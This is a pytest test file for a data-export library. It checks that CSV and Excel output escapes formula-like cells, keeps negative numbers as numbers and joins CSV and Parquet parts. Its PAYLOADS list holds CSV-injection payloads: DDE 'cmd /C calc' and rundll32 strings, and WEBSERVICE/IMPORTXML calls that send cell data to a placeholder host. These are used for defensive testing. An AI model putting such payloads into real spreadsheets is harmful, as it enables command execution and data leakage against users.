"""No cell that we write is run by a spreadsheet, whatever it holds; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from masker_rules.facts.exports import (
    Zeros,
    join_csv,
    join_parquet,
    rows_csv,
    rows_parquet,
    rows_xlsx,
)

#: What begins a formula, and the wide forms of these.
SIGNS = "=+-@\u2212\uff1d\uff0b\uff0d\uff20"
#: Of OWASP's page on CSV injection and of lists of payloads that are passed around.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "-@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid","x")', '-HYPERLINK("https://example.invalid")',
    '=WEBSERVICE("https://example.invalid/"&A1)', '=IMPORTXML("https://example.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|'/C calc'!A0", "=AND(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  -1+1",
    "\u00a0=1+1",
    '"=1+1', '"\t-1+1', "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x1b-1+1",
    "\u3000=1+1", "\x0b@A1", *(f"{sign}1+1" for sign in SIGNS),
    "﹦1+1", "﹢1+1", "﹣1+1", "﹫A1", "-",
    "--1", "-A1", "+62811", "-5e3", "-(1)", "=", "@", "-\uff15", "-5-5", "-5 ", "-.5", "-5%+A1",
    "%0A-3+3+cmd|' /C calc'!D2".replace("%0A", "\n"),
]  # fmt: skip
NUMBERS = [-5, 5, 0, "-5", "-5.25", "5", "4000000.00", "-4000000.00", "198501012010011001"]
PLAIN = ["", "Nur Aini", "O'Neill-Sari", "a=b", "x+y", "siti@example.invalid", "– tidak –"]


def is_run(cell):
    """Whether a spreadsheet might run it, judged without our own code."""
    bare = cell.lstrip(' \t\r\n\v\f"\u00a0\u3000\u200b\u202e\ufeff\x00\x1b␣')
    return bool(bare) and bare[0] in f"{SIGNS}﹦﹢﹣﹫"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_when_it_begins_like_a_formula_then_csv_and_workbook_hold_a_text(payload):
    openpyxl = pytest.importorskip("openpyxl")
    rows = [{payload: payload, "name": payload}]
    head, [cell, name] = csv.reader(io.StringIO(rows_csv(rows), newline=""))
    assert cell == name
    assert not is_run(cell)
    assert not is_run(head[0])
    assert cell.startswith("'")
    sheet = openpyxl.load_workbook(io.BytesIO(rows_xlsx({"results": rows})))["results"]
    for at in ("A1", "A2", "B2"):
        assert sheet[at].data_type == "s"
        assert not is_run(sheet[at].value)


def test_number_when_below_zero_then_stays_one():
    rows = [{"value": value} for value in NUMBERS]
    [_, *cells] = csv.reader(io.StringIO(rows_csv(rows), newline=""))
    assert [cell for [cell] in cells] == [str(value) for value in NUMBERS]
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(rows_xlsx({"results": rows})))["results"]
    assert [cell.value for cell in sheet["A"]][1:] == NUMBERS


@pytest.mark.parametrize("text", PLAIN)
def test_text_when_no_formula_then_as_it_is(text):
    [_, [cell, _]] = csv.reader(io.StringIO(rows_csv([{"name": text, "at": 1}]), newline=""))
    assert cell == text


def test_limits_when_they_promise_then_the_signs_that_are_tested():
    page = (Path(__file__).parents[3] / "docs/reference/limits.md").read_text("utf-8")
    promise = page.partition("## What we write")[2].partition("##")[0]
    told = set(re.findall(r"`(.)`", promise))
    assert set(SIGNS) <= told
    assert {payload[0] for payload in PAYLOADS} >= set(SIGNS)


def test_parts_when_joined_then_a_code_that_one_lacks_is_zero_but_where_nobody_knows(tmp_path):
    pl = pytest.importorskip("polars")
    first = [{"nip": "1", "status": "payable", "count_TL": 2}]
    second = [
        {"nip": "2", "status": "payable", "line_a": 5},
        {"nip": "3", "status": "incomplete", "line_a": None},
    ]
    order = ["nip", "status", "line_a", "count_TL"]
    zeros = Zeros(("count_TL",), "status", ("incomplete",))
    for name, rows in (("1", first), ("2", second)):
        (tmp_path / f"{name}.csv").write_text(rows_csv(rows), "utf-8")
        (tmp_path / f"{name}.parquet").write_bytes(rows_parquet(rows, ("line_a",)))
    csvs, parquets = ([tmp_path / f"{n}.{kind}" for n in "12"] for kind in ("csv", "parquet"))
    join_csv(csvs, order, tmp_path / "all.csv", zeros)
    told = (tmp_path / "all.csv").read_text("utf-8").splitlines()
    assert told == [",".join(order), "1,payable,,2", "2,payable,5,0", "3,incomplete,,"]
    join_parquet(parquets, order, tmp_path / "all.parquet", zeros)
    assert pl.read_parquet(tmp_path / "all.parquet").rows() == [
        ("1", "payable", None, 2),
        ("2", "payable", 5, 0),
        ("3", "incomplete", None, None),
    ]
